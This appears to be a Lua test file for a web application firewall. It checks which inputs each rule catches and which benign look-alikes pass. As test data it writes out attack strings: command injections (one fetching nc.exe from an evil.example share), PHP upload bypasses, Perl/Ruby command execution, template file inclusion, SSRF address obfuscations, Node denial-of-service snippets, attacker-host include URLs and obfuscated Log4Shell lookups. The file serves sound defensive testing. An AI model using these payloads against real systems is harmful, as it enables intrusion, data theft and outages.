local rule_checks = require "rule_checks"

-- The hundred-and-fifty-first to hundred-and-fifty-fourth sets on (tests/edge_security/family_gen_blind_*.py of
-- this round): the families found uncovered and the text beside them, value by value (our own spellings).
describe("edge.waf.rules hundred-and-fifty-first set on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("commands: a word spelled with escapes hides its \\n too, a JSON line break between words stays one",
        function()
            caught_by(132100, { ";u\\n\\a\\m\\e -a", "|\\n\\e\\t\\s\\t\\a\\t -an", "&& \\w\\g\\e\\t -q x" })
            -- a UNC path's backslashes stay separators: the share is still read as one
            caught_by(132140, { "&& copy \\\\evil.example\\share\\nc.exe %TEMP%" })
            clean({ "first line\\nsecond line", "done.\\nNext: c:\\new folder", "a\\r\\nb" })
        end)

    it("PHP: upload names cut by '#' before an extension, any second extension, ended by dots, .phtm", function()
        caught_by(133140, { "shell.php#.jpg", "x.php5#a.png", "shell.php.", "cmd.phtml..", "shell.phtm",
            "up/a.PHTM", "shell.php.xxx", "a.php.q1" })
        clean({ "https://github.com/o/r/blob/main/index.php#L42", "the bug is in report.php.",
            "https://x.example/index.php?img=cat.png", "see #php.jpg" })
    end)

    it("PHP: a php.ini directive that confines or disarms PHP, as a whole value or a parameter's name; the"
        .. " script's encoding set in .htaccess; php-cgi's -s as the whole query", function()
        caught_by(133130, { "open_basedir", "disable_functions", " disable_classes ", "enable_dl",
            "php_value zend.multibyte 1", "php_flag zend.detect_unicode off", "-s", "\173s" })
        caught_by(133130, { "allow_url_include On", "allow_url_fopen 1;", "open_basedir /" })
        clean({ "open_basedir is set per pool", "functions disabled", "pick -s or -m", "zend.multibyte docs",
            "we disabled allow_url_fopen on the shared boxes" })
    end)

    it("files: a backup of a JSON, XML, TOML, .properties, .config or .env file", function()
        caught_by(130130, { "appsettings.json.bak", "config/app.toml.old", "web.config.orig",
            "application.properties~", "settings.xml.save" })
        clean({ "appsettings.json", "notes about config.json.bak files", "app.config" })
    end)

    it("Perl: readpipe of q(), pipe opens, a file opened by q() path, require of a path, ${\\ `cmd`}, %ENV's keys;"
        .. " Ruby: a file read by %() or a glob, eval of packed char codes", function()
        caught_by(132170, { "print readpipe(q(id))", "readpipe($c)", "open(my $p, '-|', 'id')", "open P,'|sh'",
            "open(F,q(/etc/hosts))", "require q(/tmp/x.pl)", "${\\ `id`}", "print for keys %ENV",
            "File.read(%(/etc/hosts))", "File.open(Dir.glob('/ho*')[0])", "eval([105,100,32,59,32].pack('c*'))",
            "map{system$_}('id')", "grep { exec 'sh' } 1", "kill 9, getppid;" })
        clean({ "open my $fh, '<', 'data.txt' or die", "File.read(path)", "require q(Foo)", "readpipe is Perl's",
            "keys of the env table", "map { $_ * 2 } @list", "kill 9 of them" })
    end)

    it("templates: Liquid's render, Smarty's and Mako's include of a file by absolute path, file: or ../",
        function()
            caught_by(134110, { "{% render '/etc/hosts' %}", "{include file='file:/etc/hosts'}",
                "{include file=\"../../config.php\"}", "<%include file=\"/etc/hosts\"/>",
                "<%namespace file='../x.mako'/>" })
            clean({ "{include file='header.tpl'}", "<%include file=\"header.html\"/>",
                "{% render 'product-card', product: p %}" })
        end)

    it("SSRF: an IPv4 address spelled as URL parsers rewrite it (hex, octal, one number, short), anywhere", function()
        caught_by(131250, { "http://0x7f000001/admin", "http://2130706433:8080/", "http://0x7f.0.0.1/x",
            "http://017700000001/", "http://0177.0.0.1/", "http://127.1/x.php", "http://203.0.28978/x.txt",
            "gopher://0xa9fea9fe:80/_x" })
        clean({ "https://example.com/wiki/Page", "see http://3.14.15.92/ now",
            "https://app.example.com/?id=0x7f", "https://2130706433.example.com/", "v1.2 of https://example.com/" })
    end)

    it("Node: a count shifted to 2^20 or more, Array.from of a huge length, an endless loop of awaits,"
        .. " a function rescheduling itself through setImmediate", function()
        caught_by(135120, { "'x'.repeat(1<<30)", "s.padEnd(1 << 24)", "Array.from({length:2**32-1})",
            "Array.from({ length: 1e10 })", "(async()=>{while(1)await null})()",
            "(function f(){setImmediate(f);setImmediate(f)})()" })
        clean({ "x.repeat(1<<3)", "Array.from({length: 10})", "while the await is pending" })
    end)

    it("remote includes: a URL to an IPv4 address as the whole value (cookies and names too), a share at one",
        function()
            caught_by(131150, { "http://203.0.113.7/steal", "https://198.51.100.23/oauth/capture",
                "ftp://u:p@192.0.2.5:21/x", "file://192.0.2.5/c$/x" })
            caught_by(131120, { "smb://203.0.113.7/tz/UTC", "nfs://192.0.2.9:2049/export", "cifs://u@198.51.100.2/" })
            caught_by(131160, { "https://attacker.example/zones/?tz=", "//evil.example/t?lang=en&id=" })
            clean({ "see http://203.0.113.7/ for the old status page", "smb://fileserver/share/report.pdf",
                "https://example.com/a/1.2.3.4", "https://example.com/search?q=jeeves", "a?b=" })
        end)

    it("Log4Shell with a name broken by a nested default; a query parser's huge index or deep nesting;"
        .. " Solr's Velocity writer switched on", function()
        caught_by(132150, { "${jnd${123%ff:-${123%ff:-i:}}ldap://192.0.2.1/a}", "${j${x:-n}di:dns://a.example}" })
        caught_by(135120, { "a[999999999]=x", "x" .. string.rep("[a]", 25) })
        caught_by(144100, { "solr.VelocityResponseWriter", "params.resource.loader.enabled" })
        clean({ "${PATH:-${HOME}/bin}", "items[3]", "a[b][c][d]", "the velocity of the writer" })
    end)
end)
